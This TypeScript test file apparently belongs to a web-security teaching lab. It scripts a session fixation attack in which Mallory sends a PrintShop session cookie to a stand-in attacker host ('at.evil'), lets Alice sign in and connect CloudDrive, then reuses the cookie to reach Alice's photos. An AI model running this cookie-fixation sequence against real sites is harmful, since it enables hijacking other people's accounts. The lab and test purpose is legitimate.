import { allow, choose, order, signIn } from './acts.ts'
import { doneByHand, doneInInspector } from './by-hand.ts'
import { changeAndSend, readMessage } from './inspector.ts'
import { at } from './place.ts'

doneByHand('14', {
  byHand: async ({ mallory: home, alice: library }) => {
    await choose(library) // Mallory, who goes no further
    const cookies = await library.context().cookies(at.shop)
    const noted = cookies.find(({ name }) => name === 'lab_shop_sid')?.value ?? ''
    await library.goto(`${at.evil}/?noted=${encodeURIComponent(noted)}`)

    await choose(library)
    await signIn(library, 'alice')
    await allow(library)
    await library.waitForURL(`${at.shop}/photos`)

    await home.goto(`${at.shop}/`)
    await home.context().addCookies([{ name: 'lab_shop_sid', value: noted, url: at.shop }])
    await home.goto(`${at.shop}/photos`)
    if (await home.locator('.pick li').first().isVisible()) await order(home)
    return home
  },
  lost: /A cookie that opens Alice’s visit at PrintShop, with 4 of her photos/,
  refused: /not connected to CloudDrive|Choose photos from CloudDrive/,
})

doneInInspector('14', {
  byHand: async ({ mallory: home, alice: library }) => {
    await choose(library) // Mallory, who goes no further
    const [, noted = ''] = /lab_shop_sid=([^;\s]+)/.exec(await readMessage(library, 'go to CloudDrive')) ?? []
    await library.goto(`${at.evil}/?noted=${noted}`)
    await choose(library)
    await signIn(library, 'alice')
    await allow(library)
    await library.waitForURL(`${at.shop}/photos`)

    await choose(home)
    return changeAndSend(home, 'GET /connect', () => `GET ${at.shop}/photos\nCookie: lab_shop_sid=${noted}`)
  },
  lost: /A cookie that opens Alice’s visit at PrintShop, with 4 of her photos/,
  refused: /not connected to CloudDrive|Choose photos from CloudDrive/,
})
